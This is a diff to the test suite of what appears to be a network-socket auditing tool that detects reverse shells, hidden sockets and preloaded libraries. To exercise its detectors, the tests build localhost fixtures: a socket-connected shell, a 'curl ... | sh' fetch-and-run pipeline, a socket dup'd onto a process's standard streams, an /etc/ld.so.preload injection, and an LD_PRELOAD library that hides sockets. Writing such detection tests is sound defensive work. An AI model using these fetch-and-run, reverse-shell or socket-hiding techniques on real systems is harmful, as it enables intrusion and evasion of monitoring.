@@ -101,6 +101,46 @@ def test_shells_behind_relays():
         expect(audit("dport = %d" % port), p.pid, "unexplained", "generic-tool")
 
 
+def test_shells_in_pipelines():
+    """What a shell was told when it was started is nobody's typing, nor is what a client fetches."""
+    popen = ("import socket,subprocess\ns=socket.create_connection(('127.0.0.1',%d))\n"
+             "p=subprocess.Popen('cat >/dev/null; true',shell=True,stdin=subprocess.PIPE)\ns.recv(1)")
+    with Scene() as s:
+        sock, port = s.attacker()
+        script = s.start("/usr/bin/python3", "-c", popen % port)
+        s.accept(sock)
+        both = s.start("/usr/bin/python3", "-c", "import subprocess\nsubprocess.run('exec curl -s http://127.0.0.1:%d/|sh',"
+                       "shell=True,stdin=subprocess.PIPE,stdout=subprocess.PIPE)" % port)
+        s.accept(sock)
+        time.sleep(0.3)
+        doc = audit("dport = %d" % port)
+        found = expect(doc, script.pid, "unexplained", "generic-tool")
+        live.holds("shell-behind-relay" not in found[0]["rules"], found[0])
+        live.equal({f["verdict"] for f in doc["findings"] if both.pid not in scene.pids(f)}, {"explained", "unexplained"},
+                   "a client in a pipeline")
+        live.holds(not any("shell-behind-relay" in f["rules"] for f in doc["findings"]), doc["findings"])
+
+
+def test_services_that_are_handed_their_conversation():
+    """A program of no package whose standard streams are a conversation: inetd's is a service, nobody's a shell."""
+    handed = ("import os,socket\nl=socket.create_server(('127.0.0.1',7302))\ns,_=l.accept()\nif os.fork()==0:\n"
+              " [os.dup2(s.fileno(),i) for i in (0,1,2)]\n os.execv('/srv/service',['service'])\nos.wait()")
+    with Scene() as s:
+        s.copy("/srv/service", "/bin/cat")
+        with open("/srv/inetd.conf", "w") as f:
+            f.write("127.0.0.1:7301 stream tcp nowait root /srv/service service\n")
+        s.start("/usr/sbin/inetd", "-i", "/srv/inetd.conf")
+        s.start("/usr/bin/python3", "-c", handed)
+        for port in (7301, 7302):
+            scene.wait_until("%d listens" % port, lambda p=port: scene.listens(p))
+            s.sockets.append(socket.create_connection(("127.0.0.1", port)))
+        scene.wait_until("both serve", lambda: len(live.rows("exe /srv/service", columns="pid")) == 2)
+        found = {f["conversation"]["local_port"]: f for f in audit("exe /srv/service")["findings"]}
+        live.equal(found[7301]["verdict"], "unexplained", found[7301]["evidence"])
+        live.equal(found[7302]["verdict"], "suspicious", found[7302]["evidence"])
+        live.holds("shell-on-socket" in found[7302]["rules"], found[7302]["rules"])
+
+
 def test_names():
     with Scene() as s:
         made = [
@@ -203,8 +243,8 @@ def test_lists_that_disagree():
 
 def test_lists_that_disagree_elsewhere():
     """The lists of another network namespace are compared, too."""
-    if live.SANITIZED:
-        raise live.Skip("no library goes before the sanitizer's")
+    if live.SANITIZED:  # no library goes before its own
+        return
     with Scene() as s:
         elsewhere = s.start("unshare", "-n", "sh", "-c", "ip link set lo up; exec %s listen 127.0.0.1 7777" % s.copy("/srv/held"),
                             stdout=subprocess.PIPE)
@@ -212,6 +252,8 @@ def test_lists_that_disagree_elsewhere():
         elsewhere.stdout.readline()
         only = ("-N", pid, "sport = :7777")
         live.equal([f["verdict"] for f in audit(*only)["findings"]], ["unexplained"], "while nothing hides it")
+        text = live.run("audit", "-N", "all", "--no-policy", "sport = :7777", expect=4).stdout
+        live.holds(b"  pid %d tcp LISTEN" % pid in text, "the namespace of a line: %r" % text)
         env = {"LD_PRELOAD": os.path.join(live.HELPERS, "hidesock.so"), "HIDESOCK": "0100007F:1E61 "}
         for names in (only, ("-N", "all", only[2])):
             record = "/srv/recording-%s" % names[1]
@@ -220,6 +262,17 @@ def test_lists_that_disagree_elsewhere():
             live.equal(len(found), 1, "findings")
             live.holds("not by /proc/net" in " ".join(found[0]["evidence"]), found[0]["evidence"])
             live.equal(simple(audit("--replay=" + record, *names)), simple(doc), "what the recording says")
+
+
+def test_no_lists_to_compare():
+    """Where there is no /proc there is no list of its own that could disagree."""
+    with Scene() as s:
+        s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 7401)
+        done = live.run("audit", "--no-policy", "--json", "sport = 7401", expect=None, prefix=(
+            "unshare", "-m", "sh", "-c", "mount -t tmpfs none /proc && exec \"$@\"", "sh"))
+        finding, = json.loads(done.stdout)["findings"]
+        live.equal(finding["verdict"], "unexplained", finding["evidence"])
+        live.holds("views-disagree" not in finding["rules"], finding["rules"])
 
 
 def test_preloaded_library():
@@ -246,12 +299,17 @@ def test_what_is_mapped():
         by_path = git_daemon(s, 9419, env={"LD_LIBRARY_PATH": "/srv/path"})
         installed = git_daemon(s, 9420, env={"LD_LIBRARY_PATH": "/opt/lib"})
         writable = git_daemon(s, 9421, env={"LD_LIBRARY_PATH": "/opt/open"})
+        # a list of libraries that is in a mount namespace of its own
+        elsewhere = s.start("unshare", "-m", "sh", "-c", "mount -t tmpfs none /etc && echo /srv/lib.so >/etc/ld.so.preload && "
+                            "exec %s --listen=127.0.0.1 --port=9422 --base-path=/srv" % GIT_DAEMON)
+        scene.wait_until("git daemon listens", lambda: scene.listens(9422))
         live.holds(b"lib.so" not in open("/proc/%d/environ" % preloaded.pid, "rb").read(), "the variable is erased")
         doc = audit("--verify", "--record=/srv/recording")
         found = expect(doc, preloaded.pid, "suspicious", "preloaded-library")
         live.holds("/srv/lib.so" in found[0]["evidence"][0], found[0]["evidence"])
         live.holds("package-verified" not in found[0]["rules"], found[0]["rules"])
         expect(doc, by_path.pid, "suspicious", "preloaded-library")
+        expect(doc, elsewhere.pid, "suspicious", "preloaded-library")
         expect(doc, installed.pid, "unexplained", "foreign-library")
         expect(doc, writable.pid, "suspicious", "preloaded-library")
         live.equal(simple(audit("--replay=/srv/recording", "--verify")), simple(doc), "what the recording says")
@@ -456,6 +514,11 @@ def test_policy():
         doc = audit(policy="/srv/policy")
         found = expect(doc, client["pid"], "suspicious", "policy-block")
         live.holds("line 2" in " ".join(found[0]["evidence"]), found[0]["evidence"])
+        with open("/srv/policy", "w") as f:
+            f.write('expect "office" direction incoming and service ssh and src 10.0.0.0/8\n'
+                    'expect "local" direction incoming and dst 10.0.0.0/8 and src 127.0.0.1\n')
+        text = live.run("audit", "--policy=/srv/policy", expect=None).stdout.decode()
+        live.equal(text.count("src is the local end"), 1, "the hint about the rule that nothing matched")
 
 
 def test_kernel_socket():
@@ -656,7 +719,14 @@ def test_packaged_scripts():
             runs = [(7001, s.start("sh", "-c", place, "sh", "/opt/server", 7001), "explained"),
                     (7002, s.start("/opt/server", 7002), "unexplained"),
                     (7003, s.start("sh", "-c", place, "sh", other, 7003), "unexplained"),
-                    (7004, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-", 7004), "unexplained")]
+                    (7004, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-", 7004), "unexplained"),
+                    (7005, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-uB", "/opt/server", 7005), "explained"),
+                    # options whose value looks like the script
+                    (7006, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-X", "/opt/server", "-c", SCRIPT.decode(),
+                                   7006), "unexplained"),
+                    (7007, s.start("sh", "-c", place, "sh", "/usr/bin/perl", "-I", "/opt/server", "-MIO::Socket::INET", "-e",
+                                   "$s=IO::Socket::INET->new(LocalAddr=>'127.0.0.1:7007',Listen=>1);sleep 60"),
+                     "unexplained")]
             runs[3][1].stdin.write(SCRIPT.replace(b"sys.stdin.read()", b"import time; time.sleep(60)"))
             runs[3][1].stdin.close()
             scene.wait_until("they listen", lambda: all(scene.listens(port) for port, _, _ in runs))
